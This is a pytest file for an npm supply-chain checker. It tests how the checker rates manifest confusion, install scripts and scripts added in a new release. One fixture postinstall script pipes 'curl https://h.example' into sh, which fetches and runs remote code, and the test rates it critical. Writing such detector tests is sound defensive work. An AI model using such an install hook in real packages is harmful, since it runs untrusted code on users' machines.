from typing import Any

import pytest

from forecheck.model import Passed, Severity, Skipped
from tests.checks.running import findings, outcomes

ANN = {"_npmUser": {"name": "ann"}}


def told(**fields: Any) -> tuple[str, dict[str, Any]]:
    return "packument.json", {"name": "thing", "versions": {"1.0.0": fields}}


def held(manifest: dict[str, Any] | str, *others: str) -> tuple[str, dict[str, Any]]:
    document = {"name": "thing", "version": "1.0.0", **manifest} if isinstance(manifest, dict) else manifest
    return "tarball.json", {
        "release": "thing@1.0.0",
        "files": {"package.json": document, **dict.fromkeys(others, "")},
    }


def scripts(**fields: str) -> dict[str, Any]:
    return {"scripts": fields}


@pytest.mark.parametrize(
    ("registry", "tarball", "severity"),
    [
        ({}, scripts(postinstall="node x.js"), Severity.HIGH),
        ({}, scripts(postinstall="curl https://h.example | sh"), Severity.CRITICAL),
        ({}, scripts(install="node-gyp rebuild"), Severity.HIGH),
        ({}, scripts(postinstall="echo thanks"), Severity.LOW),
        (scripts(postinstall="node x.js"), scripts(postinstall="node y.js"), Severity.HIGH),
        (scripts(postinstall="husky install"), {}, Severity.LOW),
        (scripts(test="x"), scripts(test="y", prepare="z"), None),
        ({"hasInstallScript": True}, scripts(postinstall="node x.js"), None),
        ({"bin": "a.js"}, {"bin": "b.js"}, Severity.MEDIUM),
        ({"bin": "a.js"}, {"bin": {"thing": "./a.js"}}, None),
        ({}, {"devDependencies": {"a": "1"}}, None),
        ({}, {"peerDependencies": {"a": "1"}, "peerDependenciesMeta": {"a": {"optional": True}}}, None),
        ({}, {"peerDependencies": {"a": "1"}}, Severity.HIGH),
        ({}, {"name": "other"}, Severity.CRITICAL),
        ({}, {"version": "1.0.1"}, Severity.CRITICAL),
        ({}, {"version": "v1.0.0", "name": " thing "}, None),
    ],
)
def test_how_grave_a_difference_is(
    registry: dict[str, Any], tarball: dict[str, Any], severity: Severity | None
) -> None:
    found = findings("manifest-confusion", told(**ANN, **registry), held(tarball))
    assert [one.severity for one in found] == ([] if severity is None else [severity])


@pytest.mark.parametrize(
    ("registry", "manifest", "found"),
    [
        (ANN, {}, 1),
        ({**ANN, "scripts": {"install": "node-gyp rebuild"}}, {}, 0),
        ({**ANN, "gypfile": True}, {}, 0),
        ({**ANN, "gypfile": False}, {"gypfile": False}, 0),
        ({}, {}, 0),
        (ANN, "no json", 2),
    ],
)
def test_a_binding_counts_where_the_registry_keeps_what_publishers_send(
    registry: dict[str, Any], manifest: dict[str, Any] | str, found: int
) -> None:
    assert len(findings("manifest-confusion", told(**registry), held(manifest, "binding.gyp"))) == found


def test_scripts_are_not_compared_with_a_registry_that_tells_of_none() -> None:
    abbreviated = told(_id=None, dependencies={})
    assert findings("manifest-confusion", abbreviated, held(scripts(install="node x.js"))) == []
    [found] = findings("install-script", abbreviated, held(scripts(install="node x.js")))
    assert found.severity is Severity.MEDIUM


def test_without_the_tarball_nothing_is_said() -> None:
    for check in ("manifest-confusion", "swapped-tarball", "bundled-install-script", "install-script"):
        [outcome] = outcomes(check, told(dist={}))
        assert isinstance(outcome, Skipped), check


def test_a_script_that_the_registry_names_is_found_without_the_tarball() -> None:
    [found] = findings("install-script", told(dist={}, **scripts(install="node x.js")))
    assert found.severity is Severity.MEDIUM


def test_a_script_hidden_in_the_tarball_counts_as_added() -> None:
    packument = {
        "name": "thing",
        "versions": {"0.9.0": {}, "1.0.0": {}},
        "time": {
            "created": "2020-01-01T00:00:00.000Z",
            "0.9.0": "2020-01-01T00:00:00.000Z",
            "1.0.0": "2026-05-30T00:00:00.000Z",
        },
    }
    blocks = ("packument.json", packument), held(scripts(postinstall="node x.js"))
    [found] = findings("install-script-added", *blocks)
    assert found.message == 'postinstall runs "node x.js"; 0.9.0 had no postinstall'
    [native] = outcomes("install-script-added", blocks[0], held({}, "binding.gyp"))
    assert isinstance(native, Passed)
